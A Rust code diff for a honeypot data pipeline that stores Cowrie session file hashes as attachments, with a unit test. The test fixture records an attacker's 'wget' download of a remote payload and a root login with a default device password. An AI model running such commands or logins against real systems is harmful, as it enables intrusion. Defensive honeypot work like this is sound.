@@ -526,10 +526,19 @@ impl SqliteCentralStore {
             self.insert_row("cowrie", &fixed(event_type), &data)?;
         }
         let commands: Vec<&String> = c.commands.iter().chain(&c.unknown_commands).collect();
+        // Cowrie's `hashes` (SHA-256 of files downloaded or uploaded) as mnemosyne attachments,
+        // the shape recce7's own written files take.
+        let attachments: Vec<Value> = c
+            .hashes
+            .iter()
+            .map(|h| {
+                json!({"description": "File (cowrie)", "hashes": {"sha256": h.to_ascii_lowercase()}})
+            })
+            .collect();
         self.conn
             .prepare_cached(
                 "UPDATE mnemosyneSessions SET auth_attempts = ?2, commands = ?3, urls = ?4,
-                 session_ssh = ?5, end_time = ?6 WHERE session = ?1",
+                 session_ssh = ?5, end_time = ?6, attachments = ?7 WHERE session = ?1",
             )?
             .execute(params![
                 c.id,
@@ -540,6 +549,7 @@ impl SqliteCentralStore {
                     .as_ref()
                     .map(|v| json!({"version": v}).to_string()),
                 c.end_time,
+                Value::from(attachments).to_string(),
             ])?;
         Ok(())
     }
@@ -1040,5 +1050,32 @@ mod tests {
         let store = SqliteCentralStore::open(&path).unwrap();
         let cols = store::schema::table_columns(store.connection(), "mnemosyneSessions").unwrap();
         assert!(cols.iter().any(|(n, _)| n == "attachments"));
+    }
+
+    #[test]
+    fn cowrie_hashes_become_mnemosyne_attachments() {
+        let dir = tempfile::tempdir().unwrap();
+        let mut store = SqliteCentralStore::open(&dir.path().join("c.sqlite")).unwrap();
+        let payload = r#"{"session": "a3f1c2d4e5b6", "startTime": "2026-11-23T22:25:30.649422Z",
+            "endTime": "2026-11-23T22:26:02.101010Z", "peerIP": "203.0.113.7", "peerPort": 51234,
+            "hostIP": "10.0.0.5", "hostPort": 2223, "loggedin": ["root", "xc3511"],
+            "credentials": [], "commands": ["wget http://198.51.100.9/m"], "unknownCommands": [],
+            "urls": ["http://198.51.100.9/m"], "version": null, "ttylog": null,
+            "hashes": ["2C26B46B68FFC68FF99B453C1D30413413422D706483BFA0F98A5E886266E7AE"],
+            "protocol": "telnet"}"#;
+        let outcome = store
+            .write(&[item("cowrie.sessions", "cowrie-1", payload)])
+            .unwrap();
+        assert_eq!(outcome.written, 1, "{outcome:?}");
+        let attachments: Value = serde_json::from_str(&one(
+            store.connection(),
+            "SELECT attachments FROM mnemosyneSessions",
+        ))
+        .unwrap();
+        assert_eq!(
+            attachments,
+            json!([{"description": "File (cowrie)", "hashes":
+                {"sha256": "2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae"}}])
+        );
     }
 }
